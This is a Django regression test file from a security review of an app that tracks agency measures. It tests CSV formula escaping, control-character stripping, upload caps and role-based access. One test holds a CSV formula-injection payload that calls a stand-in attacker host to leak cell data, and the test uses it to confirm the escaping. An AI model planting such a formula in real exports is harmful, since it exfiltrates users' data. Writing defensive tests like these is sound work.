"""Regression tests from the security review."""

from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from prongsai.measures import services
from prongsai.measures.forms import MAX_EVIDENCE_FILES
from prongsai.measures.models import Measure, StatusUpdate


def test_csv_export_cells_never_run_as_formulas(demo, coordinator, viewer, as_user):
    services.create_measure(
        actor=coordinator,
        agency=demo,
        fiscal_year=2565,
        title='=HYPERLINK("http://attacker.example/?d="&B3,"x")',
        steps=["-ขั้นตอน", "+1"],
        divisions=list(demo.divisions.all()[:1]),
    )
    text = (
        as_user(viewer).get(reverse("export_csv", args=["ummao", 2565])).content.decode("utf-8-sig")
    )
    assert "'=HYPERLINK" in text
    assert ",=HYPERLINK" not in text and ',"=HYPERLINK' not in text
    assert "'-ขั้นตอน" in text


def test_control_characters_do_not_break_the_docx(demo, coordinator, as_user):
    measure = services.create_measure(
        actor=coordinator,
        agency=demo,
        fiscal_year=2565,
        title="มาตรการ\x0bทดสอบ\x01",
        steps=["ขั้น\x0cตอน"],
        divisions=list(demo.divisions.all()[:1]),
        monitoring="ติดตาม\x00",
    )
    assert measure.title == "มาตรการทดสอบ" and measure.steps == ["ขั้นตอน"]
    response = as_user(coordinator).get("/a/ummao/2565/memo/implementation.docx")
    assert response.status_code == 200


def test_memo_strips_control_characters_from_any_source():
    from prongsai.memos.model import Header, Memo, Paragraph

    memo = Memo(Header(subject="เรื่อง\x0b"), body=[Paragraph("ข้อความ\x01ทดสอบ")]).localized()
    assert memo.header.subject == "เรื่อง" and memo.paragraphs()[0].text == "ข้อความทดสอบ"


def test_status_update_file_count_is_capped(demo, coordinator, as_user):
    measure = Measure.objects.get(agency=demo, fiscal_year=2565, number=1)
    before = StatusUpdate.objects.count()
    files = [
        SimpleUploadedFile(f"f{i}.pdf", b"%PDF-1.4 x", content_type="application/pdf")
        for i in range(MAX_EVIDENCE_FILES + 1)
    ]
    response = as_user(coordinator).post(
        reverse("status_create", args=["ummao", measure.pk]),
        {"status": "done", "reported_on": "2022-03-31", "files": files},
    )
    assert response.status_code == 400
    assert StatusUpdate.objects.count() == before


def test_complaint_officer_reads_case_history_others_do_not(
    demo, complaint_officer, coordinator, as_user
):
    url = "/a/ummao/history/case/1/"
    assert as_user(complaint_officer).get(url).status_code == 200
    assert as_user(coordinator).get(url).status_code == 403
